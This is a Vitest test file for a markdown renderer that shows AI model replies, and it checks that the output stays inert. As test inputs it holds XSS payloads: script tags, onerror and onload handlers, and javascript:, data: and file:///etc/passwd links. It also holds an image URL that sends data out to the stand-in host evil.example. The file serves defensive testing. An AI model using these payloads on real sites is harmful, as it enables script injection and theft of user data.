import { beforeAll, describe, expect, it } from 'vitest';
import { isHighlighterReady, loadHighlighter, renderMarkdown } from './render';

/** The rendered HTML as the browser would have it. */
function dom(markdown: string): HTMLElement {
  const el = document.createElement('div');
  el.innerHTML = renderMarkdown(markdown);
  return el;
}

describe('renderMarkdown: model output is inert', () => {
  it('shows raw HTML as text instead of running it', () => {
    const el = dom('Before <script>window.__pwned = 1</script> after\n\n<script>alert(1)</script>');
    expect(el.querySelector('script')).toBeNull();
    expect(el.textContent).toContain('<script>window.__pwned = 1</script>');
    expect(el.textContent).toContain('<script>alert(1)</script>');
  });

  it('never produces event handlers or images from HTML', () => {
    for (const source of [
      '<img src=x onerror="alert(1)">',
      '<svg onload="alert(1)"><circle r=1></svg>',
      '<div onclick="alert(1)">x</div>',
      '<iframe src="javascript:alert(1)"></iframe>',
      'inline <img src=x onerror=alert(1)> html',
    ]) {
      const el = dom(source);
      expect(el.querySelector('img, svg, iframe, script'), source).toBeNull();
      expect(
        [...el.querySelectorAll('*')].some((n) => [...n.attributes].some((a) => a.name.startsWith('on'))),
        source,
      ).toBe(false);
    }
  });

  it('drops javascript:, data: and other non-web link targets', () => {
    for (const href of [
      'javascript:alert(1)',
      'JaVaScRiPt:alert(1)',
      'data:text/html,<b>x</b>',
      'vbscript:x',
      'file:///etc/passwd',
    ]) {
      const a = dom(`[x](${href})`).querySelector('a');
      expect(a, href).not.toBeNull();
      expect(a?.getAttribute('href'), href).toBeNull();
    }
    // Entity-encoded scheme, autolinks and reference links go through the same check.
    expect(dom('[x](&#106;avascript:alert(1))').querySelector('a')?.getAttribute('href') ?? null).toBeNull();
    expect(
      dom('[x][r]\n\n[r]: javascript:alert(1)').querySelector('a')?.getAttribute('href') ?? null,
    ).toBeNull();
  });

  it('opens web links in a new tab without opener or referrer', () => {
    const el = dom(
      '[docs](https://example.com/a?b=1) and <https://example.org> and [mail](mailto:a@example.com)',
    );
    const links = [...el.querySelectorAll('a')];
    expect(links.map((a) => a.getAttribute('href'))).toEqual([
      'https://example.com/a?b=1',
      'https://example.org',
      'mailto:a@example.com',
    ]);
    for (const a of links) {
      expect(a.getAttribute('target')).toBe('_blank');
      expect(a.getAttribute('rel')).toBe('noopener noreferrer');
    }
  });

  it('turns images into links, so a reply cannot load a URL by itself', () => {
    const el = dom('![secret](https://evil.example/collect?data=abc)');
    expect(el.querySelector('img')).toBeNull();
    expect(el.querySelector('a')?.getAttribute('href')).toBe('https://evil.example/collect?data=abc');
    expect(el.querySelector('a')?.textContent).toBe('secret');
  });

  it('keeps ordinary markdown', () => {
    const el = dom(
      '# Title\n\nSome **bold**, `code`, and a list:\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |',
    );
    // Under the message's own heading: a reply's top heading is an h3.
    expect(el.querySelector('h3')?.textContent).toBe('Title');
    expect(el.querySelector('strong')?.textContent).toBe('bold');
    expect(el.querySelector('p code')?.textContent).toBe('code');
    expect(el.querySelectorAll('li')).toHaveLength(2);
    expect(el.querySelector('table td')?.textContent).toBe('1');
  });
});

describe('renderMarkdown: code blocks', () => {
  it('renders code as text with a copy button before highlight.js has loaded', () => {
    expect(isHighlighterReady()).toBe(false);
    const el = dom('```html\n<script>alert(1)</script>\n```');
    expect(el.querySelector('script')).toBeNull();
    expect(el.querySelector('.code-block code')?.textContent).toBe('<script>alert(1)</script>');
    expect(el.querySelector('.code-copy')?.getAttribute('aria-label')).toBe('Copy code');
    expect(el.querySelector('.code-lang')?.textContent).toBe('html');
  });

  describe('once highlight.js is loaded', () => {
    beforeAll(() => loadHighlighter());

    it('highlights known languages', () => {
      const el = dom('```ts\nconst answer: number = 42;\n```');
      expect(el.querySelector('.hljs-keyword')?.textContent).toBe('const');
      expect(el.querySelector('.hljs-number')?.textContent).toBe('42');
      expect(el.querySelector('.code-lang')?.textContent).toBe('TypeScript');
      expect(el.querySelector('.code-block code')?.textContent).toBe('const answer: number = 42;');
    });

    it('keeps highlighted HTML inert', () => {
      const el = dom('```html\n<img src=x onerror="alert(1)"><script>alert(2)</script>\n```');
      expect(el.querySelector('img, script')).toBeNull();
      expect(el.querySelector('.hljs-tag')).not.toBeNull();
    });

    it('guesses an unlabelled block only once the reply is complete', () => {
      const source = '```\ndef greet(name):\n    return f"hello {name}"\n\nprint(greet("you"))\n```';
      const streaming = document.createElement('div');
      streaming.innerHTML = renderMarkdown(source, { streaming: true });
      expect(streaming.querySelector('[class^="hljs-"]')).toBeNull();
      expect(dom(source).querySelector('.hljs-keyword')?.textContent).toBe('def');
    });

    it('leaves unknown languages plain', () => {
      const el = dom('```brainfuck\n++[>+<-]\n```');
      expect(el.querySelector('[class^="hljs-"]')).toBeNull();
      expect(el.querySelector('.code-lang')?.textContent).toBe('brainfuck');
    });
  });
});
